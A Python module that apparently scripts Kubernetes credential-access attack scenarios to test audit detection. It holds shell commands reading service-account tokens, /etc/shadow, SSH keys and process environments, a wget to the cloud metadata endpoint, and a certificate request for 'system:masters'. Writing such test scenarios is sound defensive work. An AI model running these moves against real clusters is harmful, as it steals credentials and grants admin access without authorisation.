"""Credential access (catalogue C)."""

import base64

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from cluster import objects
from cluster.actors import Client
from cluster.scenarios.attacks.moves import (
    BOOTSTRAP,
    CSR,
    LIMITED,
    POWERLESS_ACCOUNT,
    Attack,
    Move,
    V,
    delete,
    get,
    kubectl,
    patch,
    post,
    python,
    shell,
    together,
)
from cluster.script import Decides

CLIENT = "kubernetes.io/kube-apiserver-client"
SECRETS = tuple(f"{V}/secrets/{name}" for name in ("database", "mail", "payment", "signing"))
TOKEN = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"expirationSeconds": 7200}}
EXEC = Decides(("get", "create"), "pods", "exec")
POD_EXEC = "execution/pod_exec"
TOKEN_FILE = "cat /var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105


def request(name: str, user: str, group: str = "", signer: str = CLIENT, **more: object) -> objects.Document:
    """Describe a certificate signing request for a user of a group."""
    # A key of its own for each name, so that two recordings hold requests of the same length.
    key = ec.derive_private_key(int.from_bytes(name.encode()[:16].ljust(16, b"x")), ec.SECP256R1())
    parts = [x509.NameAttribute(NameOID.ORGANIZATION_NAME, group)] if group else []
    subject = x509.Name([*parts, x509.NameAttribute(NameOID.COMMON_NAME, user)])
    signed = x509.CertificateSigningRequestBuilder().subject_name(subject).sign(key, hashes.SHA256())
    pem = base64.b64encode(signed.public_bytes(serialization.Encoding.PEM)).decode()
    spec = {"request": pem, "signerName": signer, "usages": ["client auth"], **more}
    return {
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {"name": name},
        "spec": spec,
    }


def ask(name: str, user: str, group: str = "", signer: str = CLIENT, **more: object) -> Move:
    """Ask for a certificate."""
    return post(CSR, request(name, user, group, signer, **more))


def approve(name: str) -> Move:
    """Approve a signing request as kubectl does."""
    return kubectl("certificate", "approve", name)


def copy_out(client: Client) -> None:
    """Copy a folder out of a pod with kubectl cp."""
    client.kubectl("cp", "victim/web-0:etc/hostname", "/tmp/kube-audit-copied", check=False)  # noqa: S108


ATTACKS = (
    Attack("C01", "Secrets listed", Decides(("list",), "secrets"), get(f"{V}/secrets")),
    Attack(
        "C02", "Secrets listed everywhere", Decides(("list",), "secrets"), kubectl("get", "secrets", "--all-namespaces")
    ),
    Attack("C03", "many Secrets read", Decides(("get",), "secrets"), together(*(get(path) for path in SECRETS))),
    Attack("C03", "Secrets dumped with the Python client", Decides(("get", "list"), "secrets"), python("dump_secrets")),
    Attack("C04", "Secret read by a script", Decides(("get",), "secrets"), get(SECRETS[0]), user_agent="curl/8.5.0"),
    Attack(
        "C05", "Secret asked for by a service account", Decides(("get",), "secrets"), get(SECRETS[0]), POWERLESS_ACCOUNT
    ),
    Attack(
        "C06",
        "Secrets refused",
        Decides(("get",), "secrets", code=403),
        together(*(get(path) for path in SECRETS)),
        LIMITED,
    ),
    Attack(
        "C07",
        "Secret written and deleted",
        Decides(("create", "patch", "delete"), "secrets"),
        together(
            post(f"{V}/secrets", objects.secret("planted", "victim", {"password": "planted-by-c07"})),
            patch(f"{V}/secrets/planted", {"stringData": {"password": "changed-by-c07"}}),
            delete(f"{V}/secrets/planted"),
        ),
    ),
    Attack(
        "C08",
        "credentials in a ConfigMap",
        Decides(("create",), "configmaps"),
        post(
            f"{V}/configmaps",
            objects.config_map(
                "settings", "victim", {"aws_access_key_id": "AKIAEXAMPLEEXAMPLE12", "password": "in-the-open"}
            ),
        ),
        level="Request",
    ),
    Attack(
        "C09",
        "token issued",
        Decides(("create",), "serviceaccounts", "token"),
        post(f"{V}/serviceaccounts/web/token", TOKEN),
    ),
    Attack("C10", "token stolen by exec", EXEC, shell(TOKEN_FILE), detection=POD_EXEC),
    Attack(
        "C11",
        "sensitive files by exec",
        EXEC,
        shell("cat /etc/shadow /root/.ssh/id_rsa /proc/1/environ"),
        detection=POD_EXEC,
    ),
    Attack(
        "C12",
        "cloud metadata by exec",
        EXEC,
        shell("wget -qO- -T 1 http://169.254.169.254/latest/meta-data/"),
        detection=POD_EXEC,
    ),
    Attack("C13", "files copied out", EXEC, copy_out, detection=POD_EXEC),
    Attack(
        "C14",
        "certificate asked for and approved",
        Decides(("create", "update"), "certificatesigningrequests", "approval"),
        together(ask("c14", "c14-friend"), approve("c14")),
    ),
    Attack(
        "C15",
        "certificate for a privileged subject",
        Decides(("create",), "certificatesigningrequests"),
        ask("c15", "kubernetes-admin", "system:masters"),
        level="Request",
    ),
    Attack(
        "C16",
        "certificate of the API client signer",
        Decides(("create",), "certificatesigningrequests"),
        ask("c16", "c16-user"),
        level="Request",
    ),
    Attack(
        "C17",
        "own request approved",
        Decides(("update",), "certificatesigningrequests", "approval"),
        together(ask("c17", "c17-me"), approve("c17")),
    ),
    Attack(
        "C18",
        "approval refused",
        Decides(("update",), "certificatesigningrequests", "approval", 403),
        together(ask("c18", "c18-me"), approve("c18")),
        LIMITED,
    ),
    Attack(
        "C19",
        "request deleted",
        Decides(("delete",), "certificatesigningrequests"),
        together(ask("c19", "c19-me"), delete(f"{CSR}/c19")),
    ),
    Attack(
        "C20",
        "request read with a bootstrap token",
        Decides(("get",), "certificatesigningrequests"),
        kubectl("get", "csr", "c14"),
        BOOTSTRAP,
    ),
)
